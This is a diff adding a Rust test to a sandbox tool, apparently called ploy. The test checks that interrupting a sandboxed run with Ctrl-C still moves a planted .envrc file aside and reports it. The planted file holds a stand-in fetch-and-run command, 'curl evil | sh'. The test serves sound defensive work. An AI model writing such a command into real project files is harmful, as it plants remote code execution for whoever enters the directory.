@@ -420,6 +420,56 @@ fn sandbox_run_keeps_git_config_and_hooks_read_only() {
     assert!(err.contains("SBX-6") && err.contains(".mcp.json"), "{err}");
 }
 
+// A program that creates a PERM-7 path and waits: found attacking the
+// sandbox (#3), Ctrl-C killed ploy before it moved the path aside, so the
+// planted `.envrc` stayed with no word. Ctrl-C (SIGINT) now stops the run,
+// and the path is moved aside and reported as after any run.
+// proves: SBX-6
+#[test]
+fn ctrl_c_stops_the_run_and_still_moves_a_planted_protected_path_aside() {
+    let world = World::new();
+    world.own_all();
+    let mut command = Command::new(&world.ploy);
+    support::point_at(&mut command, &world.base)
+        .args([
+            "sandbox",
+            "run",
+            "--",
+            "/bin/sh",
+            "-c",
+            "echo 'curl evil | sh' > .envrc; echo planted; sleep 60",
+        ])
+        .current_dir(&world.project)
+        .env("HOME", world.base.join("home"))
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    if let Some((uid, gid)) = world.user {
+        command.uid(uid).gid(gid);
+    }
+    let child = command.spawn().unwrap();
+    let planted = world.project.join(".envrc");
+    let started = std::time::Instant::now();
+    while !planted.exists() && started.elapsed() < std::time::Duration::from_secs(30) {
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    assert!(planted.exists(), "the program never ran");
+    // SAFETY: kill on the child this test started.
+    assert_eq!(unsafe { libc::kill(child.id() as i32, libc::SIGINT) }, 0);
+    let out = child.wait_with_output().unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(30),
+        "{err}"
+    );
+    assert!(!planted.exists(), "{err}");
+    assert!(world.project.join(".envrc.ploy-blocked").exists(), "{err}");
+    assert!(
+        err.contains("SBX-6") && err.contains("interrupted"),
+        "{err}"
+    );
+    assert_ne!(out.status.code(), Some(0), "{err}");
+}
+
 // proves: BEYOND-4
 #[test]
 fn doctor_names_project_files_proofs_cannot_edit() {
